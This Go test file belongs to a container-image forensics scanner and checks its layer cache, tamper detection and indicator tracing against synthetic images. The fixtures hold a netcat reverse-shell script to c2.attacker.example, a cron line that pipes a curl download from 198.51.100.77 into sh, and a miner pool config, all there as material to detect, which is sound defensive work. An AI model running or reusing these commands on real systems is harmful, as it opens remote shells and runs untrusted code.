package history

import (
	"bytes"
	"context"
	"crypto/md5"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/strata-forensics/strata/audit"
	auditpkgs "github.com/strata-forensics/strata/audit/packages"
	"github.com/strata-forensics/strata/audit/standard"
	"github.com/strata-forensics/strata/forensics"
	"github.com/strata-forensics/strata/forensics/imagebuild"
	"github.com/strata-forensics/strata/signatures"
)

// standardSet returns the analyzers strata scan runs by default: built-in rules, packages on.
func standardSet(t testing.TB) (*standard.Set, *signatures.RuleSet) {
	t.Helper()
	rules, err := signatures.Compile(signatures.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { rules.Close() })
	set, err := standard.New(standard.Options{Rules: rules, Packages: true, TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { set.Close() })
	return set, rules
}

// dpkgImage is a Debian-like image whose coreutils ls is replaced in a later layer, with a
// Go-free but package-rich first layer: package-integrity findings come from state the
// packages analyzer collects in layer 0 (database, sums) and layer 2 (the trojan's sums).
func dpkgImage() imagebuild.Image {
	ls, cat := "\x7fELF ls v1", "\x7fELF cat v1"
	md5hex := func(s string) string { h := md5.Sum([]byte(s)); return hex.EncodeToString(h[:]) }
	status := "Package: coreutils\nStatus: install ok installed\nArchitecture: amd64\nVersion: 9.1-1\nDescription: core\n\n" +
		"Package: base-files\nStatus: install ok installed\nArchitecture: amd64\nVersion: 12.4\n" +
		"Conffiles:\n /etc/issue " + md5hex("Debian 12\n") + "\nDescription: base\n\n"
	base := []imagebuild.File{
		imagebuild.Dir("etc"), imagebuild.Reg("etc/issue", "Debian 12\n"),
		imagebuild.Reg("etc/passwd", "root:x:0:0:root:/root:/bin/sh\n"),
		imagebuild.Reg("etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n"),
		imagebuild.Dir("usr"), imagebuild.Dir("usr/bin"),
		imagebuild.Reg("usr/bin/ls", ls).WithMode(0o755), imagebuild.Reg("usr/bin/cat", cat).WithMode(0o755),
		imagebuild.Dir("var"), imagebuild.Dir("var/lib"), imagebuild.Dir("var/lib/dpkg"), imagebuild.Dir("var/lib/dpkg/info"),
		imagebuild.Reg("var/lib/dpkg/status", status),
		imagebuild.Reg("var/lib/dpkg/info/coreutils.list", "/usr/bin/ls\n/usr/bin/cat\n"),
		imagebuild.Reg("var/lib/dpkg/info/coreutils.md5sums", md5hex(ls)+"  usr/bin/ls\n"+md5hex(cat)+"  usr/bin/cat\n"),
		imagebuild.Reg("var/lib/dpkg/info/base-files.list", "/etc/issue\n"),
	}
	app := []imagebuild.File{imagebuild.Dir("app"), imagebuild.Reg("app/server.py", "print('hello')\n")}
	trojan := []imagebuild.File{
		imagebuild.Dir("usr"), imagebuild.Dir("usr/bin"),
		imagebuild.Reg("usr/bin/ls", "\x7fELF ls trojaned: connect 203.0.113.45:4444 and exec /bin/sh\n").WithMode(0o755),
		imagebuild.Reg("usr/bin/kworker", "\x7fELF miner").WithMode(0o755),
		imagebuild.Dir("etc"), imagebuild.Reg("etc/issue", "Welcome\n"),
	}
	return imagebuild.Image{Tags: []string{"example.test/deb:1"}, Created: t0, Layers: []imagebuild.Layer{
		{CreatedBy: "/bin/sh -c #(nop) ADD file:deb in / ", Created: t0, Files: base},
		{CreatedBy: "COPY app /app # buildkit", Created: t0, Files: app},
		{CreatedBy: "RUN /bin/sh -c cp /tmp/ls /usr/bin/ls", Created: t0, Files: trojan},
	}}
}

// scanRef scans ref with analyzers through cache (nil: none).
func scanRef(t testing.TB, ref string, analyzers []audit.Analyzer, cache audit.LayerCache) *audit.Result {
	t.Helper()
	ctx := context.Background()
	img, err := forensics.Open(ctx, ref, forensics.OpenOptions{TempDir: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer img.Close()
	res, err := audit.Scan(ctx, img, audit.Options{Analyzers: analyzers, Cache: cache})
	if err != nil {
		t.Fatal(err)
	}
	return res
}

// findingLines renders every field a report shows of each finding.
func findingLines(r *audit.Result) string {
	var b strings.Builder
	for _, f := range r.Findings {
		fmt.Fprintf(&b, "%s %s %s layer=%d history=%d %s | %s | %s | %s | %s | %v %v %v\n", f.Rule, f.Category, f.Severity, f.Layer,
			f.History, f.Path, f.Title, f.Evidence, f.CreatedBy, f.Remediation, f.Labels, f.Techniques, f.Indicators)
	}
	return b.String()
}

// TestScanThroughTheCache scans images twice through the layer cache with the default
// analyzers: the second scan reads no layer and finds exactly what the first found; a scan
// under another rule set hash reads every layer again.
func TestScanThroughTheCache(t *testing.T) {
	set, _ := standardSet(t)
	tests := []struct {
		name string
		ref  string
		want []string // rules the scan must find, so that the comparison means something
	}{
		{"demo suspect", "../../testdata/images/demo-suspect.tar", nil},
		{"dpkg with a trojaned ls", save(t, dpkgImage()), []string{auditpkgs.RuleModifiedProgram, auditpkgs.RuleModifiedConffile, auditpkgs.RuleNonPackaged}},
		{"family child", save(t, familyImages()["child"]), nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s := openStore(t, "")
			c1 := s.LayerCache("h")
			first := scanRef(t, tc.ref, set.Analyzers, c1)
			n := len(first.Image.Layers)
			if c1.Stored() != n {
				t.Fatalf("first scan stored %d layers of %d", c1.Stored(), n)
			}
			c2 := s.LayerCache("h")
			second := scanRef(t, tc.ref, set.Analyzers, c2)
			other := scanRef(t, tc.ref, set.Analyzers, s.LayerCache("other rules"))
			if first.CachedLayers != 0 || second.CachedLayers != n || c2.Hits() != n || other.CachedLayers != 0 {
				t.Errorf("cached layers: %d, %d (%d hits), %d; want 0, %d, 0", first.CachedLayers, second.CachedLayers, c2.Hits(), other.CachedLayers, n)
			}
			if len(first.Findings) == 0 {
				t.Fatalf("the first scan found nothing to compare:\n%s", findingLines(first))
			}
			for _, rule := range tc.want {
				if !strings.Contains(findingLines(first), rule+" ") {
					t.Errorf("the first scan did not find %s:\n%s", rule, findingLines(first))
				}
			}
			for name, r := range map[string]*audit.Result{"cached": second, "other rule set": other} {
				if a, b := findingLines(first), findingLines(r); a != b {
					t.Errorf("the %s scan found something else:\nfirst:\n%s\n%s:\n%s", name, a, name, b)
				}
				if first.Files != r.Files || first.Scanned != r.Scanned {
					t.Errorf("%s: files %d/%d, scanned %d/%d", name, first.Files, r.Files, first.Scanned, r.Scanned)
				}
				if first.Verdict() != r.Verdict() || (first.Base == nil) != (r.Base == nil) {
					t.Errorf("%s: verdict %s/%s", name, first.Verdict(), r.Verdict())
				}
			}
			for i, l := range second.Layers {
				if l == nil || len(l.Entries) != len(first.Layers[i].Entries) || l.UncompressedSize != first.Layers[i].UncompressedSize {
					t.Errorf("layer %d tree differs", i)
				}
			}
			if _, err := s.RecordScan(context.Background(), second.Image, second.Layers, second, ScanInfo{RuleHash: "h", CachedLayers: second.CachedLayers}); err != nil {
				t.Fatal(err)
			}
		})
	}
}

// TestCacheNeedsEveryContentAnalyzer: a content analyzer that neither is known stateless nor
// saves its layer state keeps the scan from using the cache at all.
func TestCacheNeedsEveryContentAnalyzer(t *testing.T) {
	set, _ := standardSet(t)
	ref := save(t, familyImages()["suspect"])
	s := openStore(t, "")
	analyzers := append([]audit.Analyzer{statefulContent{}}, set.Analyzers...)
	c := s.LayerCache("h")
	scanRef(t, ref, analyzers, c)
	r := scanRef(t, ref, analyzers, c)
	if c.Stored() != 0 || c.Hits() != 0 || r.CachedLayers != 0 {
		t.Errorf("stored %d, served %d layers with a stateful analyzer", c.Stored(), c.Hits())
	}
	if len(r.Layers) != 3 || r.Layers[2] == nil {
		t.Errorf("the scan's layer trees: %v", r.Layers)
	}
}

type statefulContent struct{}

func (statefulContent) Name() string                               { return "counter" }
func (statefulContent) Content(audit.File, []byte) []audit.Finding { return nil }

// TestTamperedLayerIsNeverCached: a layer whose blob does not match its digest is read, and
// reported, on every scan; the others are cached.
func TestTamperedLayerIsNeverCached(t *testing.T) {
	set, _ := standardSet(t)
	b, err := imagebuild.Build(familyImages()["unrelated"])
	if err != nil {
		t.Fatal(err)
	}
	blob := bytes.Clone(b.Layers[0].Blob)
	i := bytes.Index(blob, []byte("unrelated\n"))
	if i < 0 {
		t.Fatal("no file content in the layer blob")
	}
	blob[i] = 'U' // same length: the tar stays readable, the digests do not match
	b.Layers[0].Blob = blob
	var buf bytes.Buffer
	if err := imagebuild.WriteOCIArchive(&buf, b); err != nil {
		t.Fatal(err)
	}
	ref := filepath.Join(t.TempDir(), "tampered.tar")
	if err := os.WriteFile(ref, buf.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	s := openStore(t, "")
	for scan := range 2 {
		c := s.LayerCache("h")
		r := scanRef(t, ref, set.Analyzers, c)
		if scan == 0 && c.Stored() != 1 {
			t.Errorf("first scan stored %d layers, want the untampered one", c.Stored())
		}
		if scan == 1 && (r.CachedLayers != 1 || c.Stored() != 0) {
			t.Errorf("second scan: %d layers cached, %d stored; want 1 and 0", r.CachedLayers, c.Stored())
		}
		mismatch := false
		for _, a := range r.Layers[0].Anomalies {
			mismatch = mismatch || a.Kind == forensics.AnomalyDigestMismatch
		}
		if !mismatch {
			t.Errorf("scan %d: layer 0 anomalies %+v, want a digest mismatch", scan, r.Layers[0].Anomalies)
		}
	}
	if n := count(t, s, "SELECT count(*) FROM layer_cache WHERE diff_id = ?", b.Layers[0].DiffID); n != 0 {
		t.Errorf("the tampered layer has %d cache rows", n)
	}
}

// TestCachedLayerMoves: a layer cached from one image serves another that holds it at a
// different position, with the findings and package state of its new place.
func TestCachedLayerMoves(t *testing.T) {
	set, _ := standardSet(t)
	deb := dpkgImage()
	moved := imagebuild.Image{Tags: []string{"example.test/moved:1"}, Created: t0, Layers: []imagebuild.Layer{
		familyImages()["unrelated"].Layers[0], deb.Layers[0], deb.Layers[2]}}
	ref := save(t, moved)
	want := findingLines(scanRef(t, ref, set.Analyzers, nil))
	s := openStore(t, "")
	scanRef(t, save(t, deb), set.Analyzers, s.LayerCache("h"))
	got := scanRef(t, ref, set.Analyzers, s.LayerCache("h"))
	if got.CachedLayers != 2 {
		t.Errorf("%d layers cached, want 2", got.CachedLayers)
	}
	if g := findingLines(got); g != want || !strings.Contains(g, auditpkgs.RuleModifiedProgram+" ") {
		t.Errorf("moved layers:\n%s\nwant:\n%s", g, want)
	}
}

// forgedPair writes a clean image and a forgery of it in format kind: the same manifest
// layout and config, with layer 1's blob replaced by one that adds a miner (the manifest's
// digest for it re-rendered as a layer swapper would, the config's diff_id kept).
func forgedPair(t *testing.T, kind string, comp imagebuild.Compression) (clean, forged string) {
	t.Helper()
	img := familyImages()["app"]
	for i := range img.Layers {
		img.Layers[i].Compression = comp
	}
	write := func(b *imagebuild.Built, name string) string {
		dir := t.TempDir()
		p := filepath.Join(dir, name)
		switch kind {
		case "oci":
			if err := imagebuild.WriteOCILayout(p, b); err != nil {
				t.Fatal(err)
			}
			return p
		}
		f, err := os.Create(p)
		if err != nil {
			t.Fatal(err)
		}
		switch kind {
		case "docker-classic":
			err = imagebuild.WriteDockerArchive(f, imagebuild.Classic, b)
		case "docker25":
			err = imagebuild.WriteDockerArchive(f, imagebuild.OCI25, b)
		case "oci-archive":
			err = imagebuild.WriteOCIArchive(f, b)
		}
		if err != nil {
			t.Fatal(err)
		}
		if err := f.Close(); err != nil {
			t.Fatal(err)
		}
		return p
	}
	b, err := imagebuild.Build(img)
	if err != nil {
		t.Fatal(err)
	}
	clean = write(b, "clean.tar")
	miner := `{"autosave": true, "pools": [{"algo": "rx/0", "url": "pool.example.org:443", "user": "worker-01", "pass": "x", "tls": true}]}`
	swapped := img.Layers[1]
	swapped.Files = append(append([]imagebuild.File(nil), swapped.Files...),
		imagebuild.Dir("opt"), imagebuild.Reg("opt/config.json", miner))
	if err := b.ReplaceLayer(1, swapped); err != nil {
		t.Fatal(err)
	}
	return clean, write(b, "forged.tar")
}

// TestCacheServesOnlyWhatTheBytesAre: after a scan of a clean image, a scan of a forgery that
// keeps its manifest layout and config but swaps one layer's blob is not served that layer from
// the cache: the swapped blob is read, found not to match its diff_id (a high tamper finding),
// and scanned (the miner it adds is found). The layers that are the same bytes are served.
func TestCacheServesOnlyWhatTheBytesAre(t *testing.T) {
	set, _ := standardSet(t)
	for _, kind := range []string{"docker-classic", "docker25", "oci-archive", "oci"} {
		for _, comp := range []imagebuild.Compression{imagebuild.None, imagebuild.Gzip} {
			t.Run(fmt.Sprintf("%s/%v", kind, comp), func(t *testing.T) {
				clean, forged := forgedPair(t, kind, comp)
				s := openStore(t, "")
				first := scanRef(t, clean, set.Analyzers, s.LayerCache("h"))
				if first.AtLeast(audit.High) {
					t.Fatalf("the clean image has high findings:\n%s", findingLines(first))
				}
				c := s.LayerCache("h")
				got := scanRef(t, forged, set.Analyzers, c)
				n := len(got.Image.Layers)
				if got.CachedLayers != n-1 || c.Hits() != n-1 {
					t.Errorf("cached layers = %d (hits %d), want %d: only the unchanged blobs", got.CachedLayers, c.Hits(), n-1)
				}
				var swapped, miner bool
				for _, f := range got.Findings {
					swapped = swapped || (f.Rule == "STRATA-TP-002" && f.Layer == 1 && f.Severity >= audit.High)
					miner = miner || (f.Category == audit.CategoryMiner && f.Layer == 1)
				}
				if !swapped || !miner {
					t.Errorf("swapped-layer finding %v, miner finding %v:\n%s", swapped, miner, findingLines(got))
				}
				// The forgery's layer is never cached under the diff_id it does not match.
				again := scanRef(t, forged, set.Analyzers, s.LayerCache("h"))
				if again.CachedLayers != n-1 || findingLines(again) != findingLines(got) {
					t.Errorf("second scan of the forgery: cached %d, findings\n%s\nwant\n%s", again.CachedLayers, findingLines(again), findingLines(got))
				}
			})
		}
	}
}

// TestTraceIndicatorInScript: an attacker's address that only a script's content holds (not
// the config, not a history line) is found by trace, from a scan that read the layer and from
// one the layer cache served.
func TestTraceIndicatorInScript(t *testing.T) {
	ctx := context.Background()
	set, _ := standardSet(t)
	s := openStore(t, "")
	script := "#!/bin/sh\nH=c2.attacker.example\nP=8443\nmkfifo /tmp/.p\ncat /tmp/.p | /bin/sh -i 2>&1 | nc $H $P > /tmp/.p\n"
	cron := "*/5 * * * * root curl -fsSL http://198.51.100.77/x | sh\n"
	img := imagebuild.Image{Tags: []string{"example.test/ind:1"}, Created: t0, Layers: []imagebuild.Layer{
		{CreatedBy: "/bin/sh -c #(nop) ADD file:base in / ", Created: t0, Files: []imagebuild.File{imagebuild.Dir("etc"), imagebuild.Reg("etc/hostname", "box\n")}},
		{CreatedBy: "COPY . / # buildkit", Created: t0, Files: []imagebuild.File{
			imagebuild.Dir("usr"), imagebuild.Dir("usr/local"), imagebuild.Dir("usr/local/bin"),
			imagebuild.Reg("usr/local/bin/sync", script).WithMode(0o755),
			imagebuild.Dir("etc"), imagebuild.Dir("etc/cron.d"), imagebuild.Reg("etc/cron.d/sync", cron),
		}},
	}}
	ref := save(t, img)
	for i := 0; i < 2; i++ {
		cache := s.LayerCache("h")
		res := scanRef(t, ref, set.Analyzers, cache)
		if i == 1 && cache.Hits() != 2 {
			t.Fatalf("second scan: %d cached layers", cache.Hits())
		}
		image, trees := read(t, ref)
		if _, err := s.RecordScan(ctx, image, trees, res, ScanInfo{RuleHash: "h"}); err != nil {
			t.Fatal(err)
		}
	}
	for _, tc := range []struct {
		q    TraceQuery
		path string
	}{
		{TraceQuery{Domain: "attacker.example"}, "/usr/local/bin/sync"},
		{TraceQuery{IP: "198.51.100.77"}, "/etc/cron.d/sync"},
		{TraceQuery{String: "8443"}, "/usr/local/bin/sync"},
	} {
		hits, err := s.Trace(ctx, tc.q)
		if err != nil {
			t.Fatal(err)
		}
		found := false
		for _, h := range hits {
			if h.Where == "indicator" && h.Path == tc.path && h.Layer == 1 {
				found = true
				if len(h.Scans) != 2 {
					t.Errorf("%+v: seen by scans %v, want both", tc.q, h.Scans)
				}
			}
		}
		if !found {
			t.Errorf("%+v: no indicator hit at %s; hits %+v", tc.q, tc.path, hits)
		}
	}
	// The stored findings give back their indicators.
	scans, err := s.Scans(ctx, ScanFilter{})
	if err != nil || len(scans) != 2 {
		t.Fatalf("scans: %v %v", scans, err)
	}
	fs, err := s.Findings(ctx, scans[0].ID)
	if err != nil {
		t.Fatal(err)
	}
	var inds []string
	for _, f := range fs {
		for _, i := range f.Indicators {
			inds = append(inds, i.String())
		}
	}
	if !strings.Contains(strings.Join(inds, " "), "domain:c2.attacker.example") {
		t.Errorf("stored indicators: %v", inds)
	}
}
